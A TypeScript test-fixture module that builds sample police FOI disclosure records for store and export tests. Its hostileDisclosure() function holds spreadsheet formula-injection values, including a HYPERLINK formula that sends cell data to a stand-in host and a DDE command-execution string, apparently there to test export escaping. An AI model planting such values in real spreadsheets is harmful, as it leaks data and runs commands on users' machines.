// Hand-built disclosures for store and export tests (not a test file itself).
import type { Disclosure } from '../../src/records/schema.js';

const SHA = 'a'.repeat(64);
const SHA2 = 'b'.repeat(64);

export function sampleDisclosure(id = 'west-midlands/65a-24', over: Partial<Disclosure> = {}): Disclosure {
  const base: Disclosure = {
    id,
    force: 'west-midlands',
    kind: 'foi_response',
    reference: '65A/24',
    publication_ref: null,
    title: 'Officer Convictions',
    url: 'https://foi.west-midlands.police.uk/officer-convictions-65a-24/',
    request_date: '2024-01-03',
    response_date: null,
    published_date: '2024-02-01',
    outcome: 'partial',
    ncnd: false,
    cost_limit: false,
    topics: ['convictions', 'suspensions'],
    request_text: 'Please tell me:\n1. How many officers were convicted, 2019-2023?',
    content_sha256: SHA,
    parser_version: '0.1.0',
    warnings: ['attachment x.pdf: not fetched (timeout)'],
    source: 'west-midlands',
    source_state: null,
    duplicate_of: null,
    questions: [{ disclosure_id: id, ordinal: 1, label: '1', text: 'How many officers were convicted', locator: 'char:16-48', sha256: SHA }],
    periods: [{ disclosure_id: id, ordinal: 1, start: '2019-01-01', end: null, questions: ['1', '2'], text: 'since 2019', locator: 'char:50-60', sha256: SHA }],
    exemptions: [
      { disclosure_id: id, ordinal: 1, act: 'FOIA', citation: '40(2)', section: '40', name: 'Personal information', class: 'absolute', ncnd: false, text: 'Section 40(2)', locator: 'char:70-83', sha256: SHA },
    ],
    figures: [
      {
        disclosure_id: id,
        ordinal: 1,
        value: 21,
        measure: 'officers',
        event: 'convicted',
        question: '1',
        period_start: '2019-01-01',
        period_end: '2023-12-31',
        year: 2021,
        offence: 'Drink driving',
        offence_category: 'driving',
        gender: 'male',
        rank: 'PC',
        status: 'suspended',
        label: 'Total, 2021',
        is_total: false,
        text: 'TWENTY one police officers',
        locator: 'pdf:p1:t1:r2:c3',
        sha256: SHA2,
      },
      {
        disclosure_id: id,
        ordinal: 2,
        value: -3,
        measure: 'cases',
        event: 'other',
        question: null,
        period_start: null,
        period_end: null,
        year: null,
        offence: null,
        offence_category: null,
        gender: null,
        rank: null,
        status: null,
        label: null,
        is_total: true,
        text: 'change: -3',
        locator: 'xlsx:Sheet1!B4',
        sha256: SHA2,
      },
    ],
    cases: [
      {
        disclosure_id: id,
        ordinal: 1,
        role: 'police_officer',
        rank: 'DC',
        gender: 'male',
        offence: 'possession of a class A drug',
        offence_category: 'drugs',
        event: 'convicted',
        event_year: 2012,
        event_date: null,
        disposal: 'fine, "£200"',
        status_at_event: 'serving',
        status_now: 'dismissed',
        text: 'a male detective constable who was convicted of possession of a class A drug, in December 2012',
        locator: 'char:100-190',
        sha256: SHA,
      },
    ],
    attachments: [
      { disclosure_id: id, ordinal: 1, url: 'https://foi.west-midlands.police.uk/65A_24.pdf', name: '65A_24.pdf', media_type: 'application/pdf', sha256: SHA2, bytes: 1234, pages: 2, parsed: true, error: null, text: '65A_24.pdf', locator: 'html:a1' },
    ],
  };
  return { ...base, ...over };
}

/** A disclosure whose text fields try formula injection in a spreadsheet. */
export function hostileDisclosure(): Disclosure {
  const d = sampleDisclosure('unknown/u-0123456789ab', {
    force: null,
    reference: null,
    title: '=HYPERLINK("http://evil.example/?"&A1,"click")',
    request_text: '+cmd|" /C calc"!A0',
    topics: [],
    warnings: ['@SUM(1+1)', '-2+3', '\tTabbed', "'=already quoted"],
  });
  d.figures[0].offence = '-minus first';
  return d;
}

